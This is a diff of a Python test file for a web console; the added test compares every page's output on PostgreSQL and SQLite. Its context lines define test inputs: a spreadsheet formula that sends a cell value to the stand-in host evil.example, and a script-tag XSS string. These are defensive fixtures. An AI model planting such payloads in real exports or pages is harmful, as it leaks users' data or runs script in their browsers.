@@ -21,10 +21,11 @@ from renewagent.console.app import people_app
 from renewagent.console.audit import Entry, verify_chain
 from renewagent.console.permissions import Person, Role
 from renewagent.console.site import Site
-from renewagent.console.tables import AUDIT, CARD, CHECK_IN, STANDING, TARGET
+from renewagent.console.tables import AUDIT, CARD, CHECK_IN, CHECK_ORDER, STANDING, TARGET
 from renewagent.console.words import GROUPS, STATES, what_next
 from tests.console import Browser, form_token, new_person, new_site, sign_in
 from tests.flows.console_seed import CAMPAIGN_ID, ISSUER, NOW, anchor_pem, document, seed, signed
+from tests.postgresql import server
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
 MARKUP = "<script>alert(1)</script>\"'&"
@@ -248,6 +249,40 @@ def test_a_changed_audit_log_is_told_of(tmp_path: Path) -> None:
     site.store.writing(lambda c: c.execute(sa.update(AUDIT).where(AUDIT.c.number == 1).values(actor="nobody")))
     text = manager.get("/audit/verify").text
     assert "The log is not whole." in text and "Entry 1 was changed." in text
+
+
+def test_every_page_is_the_same_on_postgresql(tmp_path: Path) -> None:
+    """The same seed, the same dice: the same pages, to the letter."""
+
+    def pages(url: str) -> dict[str, tuple[int, bytes]]:
+        (tmp_path / "x").mkdir(exist_ok=True)
+        site = new_site(tmp_path / "x", database=url)
+        seed(site.store, NOW, targets=96, others=24)
+        manager, agent = somebody(site), somebody(site, Role.RA_AGENT, "RX1 RX2")
+        order = site.store.reading(lambda c: c.execute(sa.select(CHECK_ORDER.c.id)).scalar())
+        lowest = sa.select(sa.func.min(STANDING.c.card)).where(STANDING.c.organisation == "RX1")
+        card = site.store.reading(lambda c: c.execute(lowest).scalar())
+        agents = agent.get("/agents").text
+        first = re.findall(r"/check-now\?agent=[0-9a-f]+", agents)[0]
+        paths = ["/", "/cards", "/cards?held=2&expires=30", "/cards?status=not-seen", "/cards.csv", f"/cards/{card}"]
+        paths += ["/campaigns", "/check-now", f"/check-now/{order}", first, "/agents", "/agents?machine=_WS00%"]
+        paths += ["/agents?machine=ws0001", "/agents?after=RX1-WS0005&id=0"]
+        found = {
+            f"{who} {path}": someone.get(path)
+            for who, someone in (("agent", agent), ("all", manager))
+            for path in paths
+        }
+        more = ("/targets", "/people", "/fleet-codes", "/audit", "/audit.jsonl")
+        found |= {path: manager.get(path) for path in more}
+        site.store.close()
+        return {path: (answer.status, answer.body) for path, answer in found.items()}
+
+    with server() as url:
+        theirs = pages(url)
+    ours = pages(f"sqlite:///{tmp_path / 'console.db'}")
+    assert {status for status, _ in ours.values()} == {200}
+    for path, answer in ours.items():
+        assert theirs[path] == answer, path
 
 
 def test_every_state_has_words_and_a_shape_of_its_own() -> None:
